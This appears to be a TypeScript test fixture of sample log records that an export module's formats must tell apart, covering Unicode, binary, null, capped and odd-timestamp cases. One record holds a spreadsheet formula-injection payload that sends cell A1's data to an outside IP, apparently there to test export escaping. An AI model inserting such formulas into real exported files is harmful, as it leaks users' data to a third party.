// Records of every kind that the formats must tell apart.
import { Flag } from '../../main/base/batch.ts';
import type { StoredRecord } from '../../main/export/stored-record.ts';

const plain: StoredRecord = {
  topic: 'app.auth',
  partition: 3,
  incarnation: 1,
  offset: 42,
  time: Date.UTC(2026, 6, 1, 14, 2, 11) * 1000 + 204_312,
  brokerTime: Date.UTC(2026, 6, 1, 14, 2, 11, 205) * 1000,
  arrivalTime: Date.UTC(2026, 6, 1, 14, 2, 12) * 1000 + 7,
  level: 6,
  flags: 0,
  key: 'user-17',
  headers: null,
  value: '{"level":"error","message":"connection reset by peer"}',
  note: null,
};

export const sampleRecords: Record<string, StoredRecord> = {
  plain,
  korean: { ...plain, offset: 43, level: 3, key: '주문-8', value: '결제가 완료되었습니다: 12,000원' },
  stackTrace: {
    ...plain,
    offset: 44,
    key: null,
    flags: Flag.keyNull,
    value: 'ERROR Failed\njava.lang.IllegalStateException: "closed"\r\n\tat com.example.Pool.take(Pool.java:71)',
  },
  tombstone: { ...plain, offset: 45, level: 0, flags: Flag.valueNull, value: null },
  empty: { ...plain, offset: 46, level: 0, key: '', value: '' },
  binary: {
    ...plain,
    offset: 47,
    level: 0,
    flags: Flag.valueBinary | Flag.keyBinary | Flag.error,
    key: new Uint8Array([0xff, 0x00]),
    value: new Uint8Array([0x80, 0x41, 0xfe]),
    note: JSON.stringify({ error: 'not UTF-8' }),
  },
  headers: {
    ...plain,
    offset: 48,
    headers: JSON.stringify([
      ['trace', 'a"b', false],
      ['trace', null, false],
      ['bytes', '/wA=', true],
    ]),
    value: 'with headers',
  },
  capped: {
    ...plain,
    offset: 49,
    flags: Flag.capped,
    value: 'the first bytes of',
    note: JSON.stringify({ length: 10_485_760, sha256: 'ab12' }),
  },
  formula: { ...plain, offset: 50, key: "'quoted", value: '=HYPERLINK("http://203.0.113.9/?"&A1,"open")' },
  oddTimes: {
    ...plain,
    offset: 51,
    time: Date.UTC(1969, 11, 31, 23, 59, 59) * 1000 + 999_999,
    brokerTime: -1,
    value: '-1',
  },
  incarnation: { ...plain, incarnation: 2, value: 'of a topic that was created again' },
  farYears: { ...plain, offset: 52, time: -62_167_219_200_000_000, arrivalTime: 253_402_300_799_000_000, value: 'x' },
};
